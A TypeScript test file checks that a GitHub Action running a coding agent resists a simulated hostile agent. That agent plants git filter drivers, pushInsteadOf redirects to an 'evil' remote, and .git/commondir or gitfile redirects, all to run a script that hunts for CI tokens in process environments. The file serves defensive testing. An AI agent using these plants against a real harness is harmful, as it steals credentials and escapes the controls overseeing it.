/**
 * The action's own git reads nothing the agent wrote (issue 12, classes 2 and 3), end to end with
 * `node dist/index.cjs` as a runner runs it, in both layouts actions/checkout persists its credential
 * in. The agent is a hunter that plants what would make the action's token-holding git run its
 * code or send the push elsewhere:
 * - class 2, configuration git reads from places the agent can write: a `filter.*.clean` driver
 *   and a `url.*.pushInsteadOf` in `~/.gitconfig`, `$XDG_CONFIG_HOME/git/config` and any "frozen"
 *   global config copy under RUNNER_TEMP (where the action used to keep one);
 * - class 3, repository metadata redirects: `.git/commondir` naming a copy of the repository whose
 *   config holds that filter, or the `.git` directory moved away and replaced by a gitfile.
 * The filter and the evil remote's pre-receive hook run the canary hunter, which looks for the
 * job's token and the runner's tokens everywhere (its environment, every /proc/<pid>/environ).
 * Protected, it never runs and the push goes to origin. Positive control: the same plant with the
 * one protection switched off (a test-only switch, see src/runtime/test-switches.ts) runs the
 * hunter in the action's process tree, and it finds the canaries.
 */
import { randomBytes } from 'node:crypto'
import { execFileSync } from 'node:child_process'
import fs from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { quote } from 'shell-quote'
import { startScenario, type Scenario } from '../harness/scenario.js'
import type { CheckoutCredentials } from '../harness/repo-fixture.js'
import type { ActionRun } from '../harness/run-action.js'
import { issueLabeledEvent } from '../harness/webhook-events.js'

const HUNTER = fileURLToPath(new URL('./fixtures/canary-hunter.mjs', import.meta.url))
const SWITCH = 'GATED_AGENT_TEST_ONLY_PROTECTIONS_OFF'

interface Finding {
  where: string
  canary: number
  form: string
}

type Plant = 'config' | 'commondir' | 'gitfile'

interface Hunt {
  s: Scenario
  dir: string
  run: ActionRun
  canaries: { token: string; runtime: string; oidc: string }
  /** Reports the planted hunter wrote, by role (`filter`, `push-hook`). */
  reports: () => Promise<Record<string, Finding[]>>
  evilRemote: string
}

const open: Array<() => Promise<void>> = []
afterAll(async () => {
  for (const close of open) await close()
})

/**
 * The hostile agent: makes its change, plus a `.gitattributes` sending every file through the
 * `hunt` filter, and plants the filter's definition (and a pushInsteadOf to an evil remote whose
 * hook hunts too) where `plant` says.
 */
function agentScript(plant: Plant, dir: string, evilRemote: string, config: string): string {
  const filter = `${quote([process.execPath, HUNTER, config, 'filter'])} </dev/null >/dev/null 2>&1; cat`
  const lines = [
    'set -e',
    "printf 'hunted\\n' > hunted.txt",
    "printf '* filter=hunt\\n' > .gitattributes",
    // What the action's git must never obey, written the way git itself writes config.
    `plant() { git config --file "$1" filter.hunt.clean ${quote([filter])}; git config --file "$1" url.${quote([evilRemote])}.pushInsteadOf "$(git remote get-url origin)"; }`
  ]
  if (plant === 'config') {
    lines.push(
      'plant "$HOME/.gitconfig"',
      'mkdir -p "${XDG_CONFIG_HOME:-$HOME/.config}/git"',
      'plant "${XDG_CONFIG_HOME:-$HOME/.config}/git/config"',
      // The frozen copy of the global config the action used to keep under RUNNER_TEMP.
      'if [ -n "$RUNNER_TEMP" ]; then find "$RUNNER_TEMP" -name gitconfig-global -type f 2>/dev/null | while read -r f; do plant "$f"; done; fi'
    )
  } else if (plant === 'commondir') {
    const copy = path.join(dir, 'common-copy')
    lines.push(`rm -rf ${quote([copy])}`, `cp -R .git ${quote([copy])}`, `plant ${quote([path.join(copy, 'config')])}`)
    lines.push(`printf '%s\\n' ${quote([copy])} > .git/commondir`)
  } else {
    const moved = path.join(dir, 'moved-git')
    lines.push(`rm -rf ${quote([moved])}`, `mv .git ${quote([moved])}`, `plant ${quote([path.join(moved, 'config')])}`)
    lines.push(`printf 'gitdir: %s\\n' ${quote([moved])} > .git`)
  }
  return `${lines.join('\n')}\n`
}

async function hunt(layout: CheckoutCredentials, plant: Plant, off?: string): Promise<Hunt> {
  const id = randomBytes(10).toString('hex')
  const canaries = { token: `ghs_canaryToken${id}`, runtime: `canary-runtime-${id}`, oidc: `canary-oidc-${id}` }
  const s = await startScenario({
    files: { 'README.md': '# hunt\n' },
    credentials: layout,
    token: canaries.token,
    fake: { issues: [{ number: 5, title: 'Hunt', labels: ['agent'], user: 'alice' }], permissions: { alice: 'write' } }
  })
  const dir = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'gated-agent-planted-')))
  open.push(async () => {
    await s.cleanup()
    await fs.rm(dir, { recursive: true, force: true })
  })
  const reportDir = path.join(dir, 'reports')
  const config = path.join(dir, 'hunt.json')
  await fs.writeFile(config, JSON.stringify({ needles: [canaries.token, canaries.runtime, canaries.oidc], roots: [], reportDir }))
  // The evil remote: a bare repository whose pre-receive hook hunts, then takes the push.
  const evilRemote = path.join(dir, 'evil.git')
  execFileSync('git', ['init', '--quiet', '--bare', evilRemote], { env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: dir } })
  await fs.writeFile(
    path.join(evilRemote, 'hooks', 'pre-receive'),
    `#!/bin/sh\n${quote([process.execPath, HUNTER, config, 'push-hook'])} </dev/null >/dev/null 2>&1\ncat >/dev/null\nexit 0\n`,
    { mode: 0o755 }
  )
  const agent = path.join(dir, 'agent.sh')
  await fs.writeFile(agent, agentScript(plant, dir, evilRemote, config))
  const event = issueLabeledEvent({ ...s.target, issueNumber: 5, label: 'agent', sender: 'alice', title: 'Hunt', body: 'Hunt.' })
  const run = await s.run({
    eventName: 'issues',
    event,
    // The plant's .gitattributes line (what makes a filter apply) is a change to the gate's
    // definition, which the policy refuses on its own; allowed here to test the git layer alone.
    inputs: { 'agent-command': `sh ${agent}`, gate: 'test -f hunted.txt', 'allow-gate-changes': 'true' },
    env: {
      ACTIONS_RUNTIME_TOKEN: canaries.runtime,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: canaries.oidc,
      // The git layer's defences alone: the sandbox's mounts (which hide RUNNER_TEMP and throw away
      // HOME writes, tested in isolation.test.ts) are off, so the agent's plants land for real.
      [SWITCH]: off ? `private-tmp,mounts,${off}` : 'private-tmp,mounts'
    },
    timeoutMs: 60_000
  })
  const reports = async (): Promise<Record<string, Finding[]>> => {
    const found: Record<string, Finding[]> = {}
    for (const name of await fs.readdir(reportDir).catch(() => [] as string[])) {
      const report = JSON.parse(await fs.readFile(path.join(reportDir, name), 'utf8')) as { role: string; findings: Finding[] }
      found[report.role] = report.findings
    }
    return found
  }
  return { s, dir, run, canaries, reports, evilRemote }
}

/** The branches of a bare repository. */
function branchesOf(bare: string): string[] {
  const out = execFileSync('git', ['for-each-ref', '--format=%(refname:short)', 'refs/heads'], {
    cwd: bare,
    encoding: 'utf8',
    env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1' }
  })
  return out.split('\n').filter(Boolean)
}

/** What git, run plainly in the workspace as a later step of the job would, makes of its config. */
function laterStepConfig(workspaceDir: string): string {
  return execFileSync('git', ['config', '--list', '--show-origin'], {
    cwd: workspaceDir,
    encoding: 'utf8',
    env: { PATH: process.env.PATH ?? '', GIT_CONFIG_NOSYSTEM: '1', HOME: '/dev/null' }
  })
}

/** The hunter found the job's token (canary 0) through some process's environment. */
function foundToken(findings: Finding[] | undefined): boolean {
  return (findings ?? []).some((f) => f.canary === 0 && /environ|^env /.test(f.where))
}

describe.each<CheckoutCredentials>(['extraheader', 'includeIf'])('with the checkout credential persisted as %s', (layout) => {
  describe('class 2: configuration in places the agent can write', () => {
    test('a filter and a pushInsteadOf planted in ~/.gitconfig, XDG config and RUNNER_TEMP never run or redirect: the PR is pushed to origin', async () => {
      const h = await hunt(layout, 'config')
      if (h.run.exitCode !== 0) throw new Error(`the action failed:\n${h.run.stdout}\n${h.run.stderr}`)
      expect(h.run.outputs.result).toBe('proposed')
      expect(await h.reports()).toEqual({})
      expect(await h.s.fixture.originFile('agent/issue-5', 'hunted.txt')).toBe('hunted\n')
      expect(branchesOf(h.evilRemote)).toEqual([])
      h.s.fake.assertNoProblems()
    })

    test('positive control: with the owned git config switched off, the same plant runs the hunter in the action and it finds the token', async () => {
      const h = await hunt(layout, 'config', 'git-config')
      expect(h.run.stdout).toContain(`${SWITCH} is set`)
      const reports = await h.reports()
      expect(foundToken(reports.filter)).toBe(true)
      // The push went to the agent's remote, where its hook ran with the token in reach.
      expect(foundToken(reports['push-hook'])).toBe(true)
    })
  })

  describe('class 3: repository metadata redirects', () => {
    test('.git/commondir naming a copy with a filter: never followed, put back, the change refused, and no later step is redirected', async () => {
      const h = await hunt(layout, 'commondir')
      expect(h.run.outputs.result).toBe('rejected')
      expect(h.run.outputs.reason).toMatch(/rewrote the repository's metadata \(.*\.git\/commondir/)
      expect(await h.reports()).toEqual({})
      expect(await h.s.fixture.originBranches()).toEqual(['main'])
      // The redirect does not survive for the job's later steps.
      await expect(fs.access(path.join(h.s.fixture.workspaceDir, '.git', 'commondir'))).rejects.toThrow()
      expect(laterStepConfig(h.s.fixture.workspaceDir)).not.toMatch(/filter\.hunt|pushinsteadof/i)
    })

    test('positive control: with the metadata guard switched off, the same commondir runs the hunter in the action and it finds the token', async () => {
      const h = await hunt(layout, 'commondir', 'git-metadata')
      expect(h.run.stdout).toContain(`${SWITCH} is set`)
      expect(foundToken((await h.reports()).filter)).toBe(true)
    })

    // The gitfile needs no positive control of its own: the same filter, followed, is the commondir's.
    test('.git replaced by a gitfile naming a moved copy with a filter: git is not run on it, nothing is pushed', async () => {
      const h = await hunt(layout, 'gitfile')
      expect(h.run.outputs.result).toBe('rejected')
      expect(h.run.outputs.reason).toMatch(/The agent left the repository unusable \(.*git directory/)
      expect(await h.reports()).toEqual({})
      expect(await h.s.fixture.originBranches()).toEqual(['main'])
      expect(branchesOf(h.evilRemote)).toEqual([])
    })
  })
})
